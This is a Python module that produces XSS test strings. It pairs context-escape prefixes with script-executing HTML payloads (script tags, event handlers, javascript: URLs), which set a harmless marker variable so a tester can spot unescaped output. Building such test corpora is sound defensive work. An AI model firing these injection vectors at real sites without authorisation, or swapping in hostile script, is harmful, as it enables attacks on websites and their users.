"""Texts that would run as script where a page did not escape them: each way into a page with each
thing to put there. `MARK` names what a text of these could make: an element, an attribute, a value
of the window."""

from __future__ import annotations

import itertools

MARK = "zqhole"
RUN = f"window.{MARK}=1"
# how a text gets out of where it stands: out of text, values, comments, scripts, templates
WAYS_OUT = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}",
    "]]>{}", "</option></select>{}", "</svg>{}", "</summary></details>{}", "\\u003c/script>{}",
    "&lt;/p&gt;{}", "\r\n\r\n{}", "\u2028{}", "`-->{}", "<!--{}--!>", "${{{}}}", "{{{{ {} }}}}",
)  # fmt: skip
THINGS = (
    f"<script>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<svg {MARK} onload={RUN}>",
    f"<{MARK}>",
    f'<a {MARK} href="javascript:{RUN}">x</a>',
    f"<iframe {MARK} srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f'<form {MARK} action="javascript:{RUN}"><button autofocus {MARK}>x</button></form>',
    f"<style {MARK}>*{{color:red}}</style>",
    f"<input {MARK} autofocus onfocus={RUN}>",
    f'" {MARK} onmouseover="{RUN}" style="position:fixed;inset:0"',
)
ALL = tuple(way.format(thing) for way, thing in itertools.product(WAYS_OUT, THINGS))


def spread(first: int, longest: int, start: str = "") -> str:
    """As many of them as fit into so many characters, beginning with another each time."""
    text = start
    for each in itertools.chain(ALL[first % len(ALL) :], ALL[: first % len(ALL)]):
        if len(text) + len(each) + 1 > longest:
            break
        text += f"{each} "
    return text.strip()
